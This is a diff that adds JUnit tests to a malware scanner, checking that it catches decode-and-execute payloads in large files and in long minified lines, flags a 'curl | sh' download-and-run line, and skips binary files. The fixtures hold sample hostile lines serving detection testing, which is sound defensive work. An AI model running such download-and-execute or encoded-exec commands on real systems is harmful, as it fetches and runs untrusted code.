@@ -46,6 +46,53 @@ class BuiltinScannerTest {
   // ---------------------------------------------------------------------------------------------
 
   @Nested
+  @DisplayName("large and odd files are read whole")
+  class WholeFiles {
+
+    @Test
+    void shouldFindAPayloadPlacedFarPastTheFirstMegabytesWhenAFileIsLarge() throws Exception {
+      // Given: 3 MiB of harmless lines, then the payload
+      String padding = "x = 1\n".repeat(3 * 1024 * 1024 / 6);
+      List<Finding> findings = scanTarGz(file("demo/big.py",
+          padding + "exec(base64.b64decode('cHJpbnQoMSk='))\n"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::line)
+          .containsExactly(tuple("AIRLOCK-DECODE-EXEC", java.util.OptionalInt.of(3 * 1024 * 1024 / 6 + 1)));
+    }
+
+    @Test
+    void shouldFindAPayloadDeepInsideAVeryLongMinifiedLine() throws Exception {
+      // Given: one 200 000-character line with the payload straddling a segment boundary
+      String before = "var a=1;".repeat(2_499) + "xxxxxxxxxxxxxxx";
+      List<Finding> findings = scanZip(file("dist/app.min.js",
+          before + ";eval(atob('YWxlcnQoMSk='));" + "var b=2;".repeat(20_000)));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId).containsExactly("AIRLOCK-DECODE-EXEC");
+    }
+
+    @Test
+    void shouldStillReadACodeFileWhenItHoldsANulByte() throws Exception {
+      // Given: a NUL early on must not make a script pass as binary data
+      List<Finding> findings = scanTarGz(file("demo/run.sh", "#\u0000\ncurl -s https://x.invalid/p | sh\n"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId).containsExactly("AIRLOCK-DOWNLOAD-EXEC");
+    }
+
+    @Test
+    void shouldSkipDataFilesWhenTheyAreBinary() throws Exception {
+      // Given: a compiled object that happens to contain the bytes of a key header
+      List<Finding> findings = scanTarGz(file("demo/native.so",
+          "\u0000\u0001ELF -----BEGIN RSA PRIVATE KEY-----\n"));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  @Nested
   @DisplayName("AIRLOCK-DECODE-EXEC")
   class DecodeExec {
 
